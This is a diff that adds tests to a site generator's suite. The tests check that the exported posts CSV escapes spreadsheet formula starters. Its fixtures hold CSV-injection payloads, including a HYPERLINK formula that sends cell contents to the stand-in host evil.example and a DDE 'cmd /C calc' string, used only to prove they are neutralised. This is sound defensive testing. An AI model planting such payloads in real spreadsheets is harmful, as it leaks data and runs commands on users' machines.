@@ -535,6 +535,49 @@ def test_feed_and_csv_escape_hostile_text(tmp_path: Path) -> None:
     assert "<script>alert(1)</script>" in table[1][2]
 
 
+# What a spreadsheet runs when a cell begins with it (OWASP's CSV injection list).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_posts_csv_cells_cannot_be_formulas(make_site: MakeSite) -> None:
+    link = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
+    news = (
+        "---\ntitle: '+1+cmd|\" /C calc\"!A0'\ndate: 2024-02-03\nvisibility: public\n"
+        "summary: '@SUM(1+1)*cmd'\npost:\n  hook: '-2+3+cmd'\n---\n\nTin.\n"
+    )
+    site = make_site(
+        {
+            "directives/2024/9-cv-duk.md": directive(
+                "9-CV/ĐUK", "2024-01-02", subject=f"'{link}'", summary="'=1+1'"
+            ),
+            "content/news/tin.md": news,
+            "content/news/tin-2.md": (
+                f"---\ntitle: '{link}'\ndate: 2024-02-04\nvisibility: public\n---\n\nTin.\n"
+            ),
+        },
+        audience="public",
+    )
+    assert site.exit_code == 0, site.output
+    raw = (site.site_dir / "bai-dang" / "posts.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert len(rows) > 4
+    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
+    # The text is kept after the quote a spreadsheet shows as text, and each cell is quoted.
+    titles = [row[5] for row in rows[1:]]
+    assert "'" + link in titles and "'-2+3+cmd" in titles
+    assert '"\'=HYPERLINK(""http://evil.example' in raw
+    for record in raw.split("\r\n")[1:-1]:  # rows end in CRLF, texts hold LF only
+        assert record.startswith('"') and record.endswith('"'), record
+
+
+def test_posts_csv_escapes_tab_and_carriage_return_starts() -> None:
+    post = _all_posts()[0]
+    items = [dataclasses.replace(post, title="\t=1+1", text="\r=2+2\nhai dòng")]
+    rows = list(csv.reader(io.StringIO(posts.posts_csv(items).decode("utf-8-sig"), newline="")))
+    assert rows[1][5] == "'\t=1+1" and rows[1][2] == "'\r=2+2\nhai dòng"
+
+
 # --- public records only --------------------------------------------------------------------
 
 CANARY = "CANARY-7f3a9c-NỘI-BỘ"
